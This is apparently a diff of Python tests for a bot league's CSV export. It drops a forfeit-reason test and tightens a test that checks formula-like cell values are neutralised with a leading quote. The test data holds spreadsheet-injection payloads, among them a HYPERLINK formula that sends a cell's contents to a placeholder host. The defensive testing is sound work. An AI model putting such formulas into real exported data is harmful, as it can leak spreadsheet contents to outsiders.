@@ -126,19 +126,6 @@ def test_the_largest_seed_and_hostile_names_survive(tmp_path: Path, run: Run) ->
         assert {row["tournament"] for row in rows} == {row["round"] for row in rows} == {None}
 
 
-def test_forfeits_have_their_reason(tmp_path: Path, run: Run) -> None:
-    endings = {"ann": Ending.CRASHED, "bob": Ending.DISQUALIFIED}
-    league = League(
-        BOTS, rounds=1, ending=lambda _, bot: endings.get(bot, Ending.FINISHED), reason="IndexError: b.py:5"
-    )
-    out = tmp_path / "out"
-    export(run, league.store(tmp_path / "games.sqlite"), out, "csv")
-    rows = {row["bot"]: row for row in rows_of(out, "csv")}
-    assert (rows["ann"]["ending"], rows["ann"]["reason"]) == ("crashed", "IndexError: b.py:5")
-    assert (rows["cem"]["ending"], rows["cem"]["reason"]) == ("finished", None)
-    assert {row["unrated"] for row in rows.values()} == {1}
-
-
 def test_a_cell_of_csv_is_no_formula(tmp_path: Path, run: Run) -> None:
     """What a bot says begins with a quote where a spreadsheet would compute it; numbers stay numbers."""
     for number, reason in enumerate(('=HYPERLINK("http://x/?"&A1)', "+1", "-1+1", "@sum", "\t=1", "\r=1")):
@@ -146,7 +133,7 @@ def test_a_cell_of_csv_is_no_formula(tmp_path: Path, run: Run) -> None:
         export(run, league.store(tmp_path / f"{number}.sqlite"), tmp_path / "out", "csv")
         with (tmp_path / "out").open(newline="") as file:
             rows = list(csv.DictReader(file))
-        assert {row["reason"] for row in rows} == {f"'{reason}"}
+        assert {(row["ending"], row["reason"]) for row in rows} == {("crashed", f"'{reason}")}
         assert all(float(row["hearts"]) < 100 for row in rows)
 
 
